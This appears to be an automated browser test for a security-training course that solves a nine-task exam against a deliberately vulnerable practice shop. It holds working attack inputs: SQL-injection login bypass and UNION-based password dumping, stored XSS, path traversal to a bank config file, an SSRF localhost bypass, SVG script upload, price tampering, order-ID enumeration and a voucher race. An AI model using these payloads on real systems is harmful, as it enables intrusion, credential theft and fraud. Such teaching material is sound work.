import { signIn } from '../src/learner-page.ts';
import { expect, test } from '../src/platform-fixture.ts';
import { startLesson } from '../src/start-lesson.ts';

test('the final exam is passed in the browser, from the texts of its twelve steps', async ({
  page,
  platform,
  school,
  learner: person,
}) => {
  const title = 'Final exam: nine vulnerabilities';
  const learner = await startLesson({ page, platform, school, learner: person }, title, 40);
  await learner.expectStep('The assignment');
  const { username, password } = await learner.credentials();
  const shop = await learner.launch();
  await signIn(shop, username, password);
  await learner.next();

  await test.step('somebody else’s order', async () => {
    await learner.expectStep('Task 1: What Priya bought');
    await shop.goto(`${platform.shopUrl}orders`);
    const own =
      /\d+/.exec(
        await shop
          .getByRole('link', { name: /^No\. \d+/ })
          .first()
          .innerText(),
      )?.[0] ?? '';
    const heading = shop.getByRole('heading', { level: 1 });
    for (let id = Number(own) - 1; id > 0; id--) {
      await shop.goto(`${platform.shopUrl}orders/${id}`);
      await heading.waitFor();
      if (await shop.getByText('Priya Nair').first().isVisible()) break;
    }
    await expect(shop.getByText('Priya Nair').first()).toBeVisible();
    await learner.expectCompleted();
    await learner.next();
  });

  await test.step('a price of the buyer’s choice', async () => {
    await learner.expectStep('Task 2: Coffee for a song');
    await shop.goto(platform.shopUrl);
    await shop
      .getByRole('link', { name: /Espresso Hinterhof/ })
      .first()
      .click();
    await shop.waitForURL(/products/);
    await shop.locator('input[name=price]').evaluate((field: HTMLInputElement) => (field.value = '0.05'));
    await shop.getByRole('button', { name: 'Add to basket' }).click();
    await shop.goto(`${platform.shopUrl}cart`);
    await shop.getByRole('button', { name: 'Order and pay at the till' }).click();
    await learner.expectCompleted();
    await learner.next();
  });

  await test.step('a login without a password', async () => {
    await learner.expectStep('Task 3: As Luc');
    await signIn(shop, "luc.favre@courriel.example' --", 'whatever');
    await learner.expectCompleted();
    await learner.next();
  });

  await test.step('passwords by the search', async () => {
    await learner.expectStep('Task 4: Other people’s passwords');
    const search = (q: string) => shop.goto(`${platform.shopUrl}search?q=${encodeURIComponent(q)}`);
    const columns = async () => {
      for (let count = 1; count < 12; count++) {
        const nulls = Array.from({ length: count }, () => 'NULL').join(',');
        if ((await search(`nothing' UNION SELECT ${nulls} --`))?.status() === 200) return count;
      }
      throw new Error('no number of columns fits');
    };
    const count = await columns();
    const from = Array.from({ length: count }, (_, place) => (place % 2 === 0 ? 'email' : 'password'));
    await search(`nothing' UNION SELECT ${from.join(',')} FROM customers --`);
    await learner.expectCompleted();
    await learner.next();
  });

  await test.step('a script in a review', async () => {
    await learner.expectStep('Task 5: A script for everybody');
    await shop.goto(`${platform.shopUrl}products/2`);
    await shop.getByLabel('Review').fill("<img src=x onerror=\"fetch('/bell', { method: 'POST' })\">");
    await shop.getByRole('button', { name: 'Post review' }).click();
    await learner.expectCompleted();
    await learner.next();
  });

  await test.step('a file outside the folder', async () => {
    await learner.expectStep('Task 6: The bank’s file');
    await shop.goto(`${platform.shopUrl}recipes`);
    await shop.getByRole('link').filter({ hasText: /zopf/i }).click();
    const sheet = new URL(shop.url());
    sheet.searchParams.set('name', '../config/bank.conf');
    await shop.goto(sheet.href);
    await learner.expectCompleted();
    await learner.next();
  });

  await test.step('a link to the server itself', async () => {
    await learner.expectStep('Task 7: The till answers');
    await signIn(shop, username, password);
    const fetchLink = async (link: string) => {
      await shop.goto(`${platform.shopUrl}profile/picture`);
      await shop.getByLabel('Link').fill(link);
      await shop.getByRole('button', { name: 'Fetch picture' }).click();
    };
    await fetchLink('http://localhost:9100/');
    await expect(shop.getByText('We don’t accept links to this computer.')).toBeVisible();
    await fetchLink('http://[::1]:9100/');
    await learner.expectCompleted();
    await learner.next();
  });

  await test.step('a page among the pictures', async () => {
    await learner.expectStep('Task 8: A page among pictures');
    await shop.goto(`${platform.shopUrl}gallery`);
    const drawing = '<svg xmlns="http://www.w3.org/2000/svg"><script>document.title = "ran"</script></svg>';
    await shop
      .getByLabel('Picture')
      .setInputFiles({ name: 'zopf.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(drawing) });
    await shop.getByRole('button', { name: 'Upload picture' }).click();
    await shop.getByRole('link', { name: 'zopf.svg' }).click();
    await learner.expectCompleted();
    await learner.next();
  });

  await test.step('a voucher twice', async () => {
    await learner.expectStep('Task 9: Credit out of nothing');
    const takeVoucher = async () => {
      await shop.goto(`${platform.shopUrl}credit`);
      await shop.getByRole('button', { name: /from the jar/ }).click();
      return shop.locator('.pins b').first().innerText();
    };
    await shop.goto(`${platform.shopUrl}credit`);
    const [first, code] = [await takeVoucher(), await takeVoucher()];
    const unspent = code === first ? await shop.locator('.pins b').last().innerText() : code;
    await shop.evaluate(async (voucher) => {
      const body = () => new URLSearchParams({ code: voucher });
      await Promise.all(
        Array.from({ length: 20 }, () => fetch('/credit/redeem', { method: 'POST', body: body() })),
      );
    }, unspent);
    await learner.expectCompleted();
    await learner.next();
  });

  await learner.expectStep('First things first');
  await learner.choose('radio', /^The search that gives away/);
  await learner.expectCompleted();
  await learner.next();
  await learner.expectStep('To Rosa');
  await learner.sendAnswer(
    'Rosa, anybody can read all your customers’ passwords by the search, take any order at any price, and read the file of your bank. Close the search today, change the key of the bank, and tell your customers to choose new passwords.',
  );
  await expect(page.getByRole('region', { name: 'Lesson complete' })).toBeVisible();
});
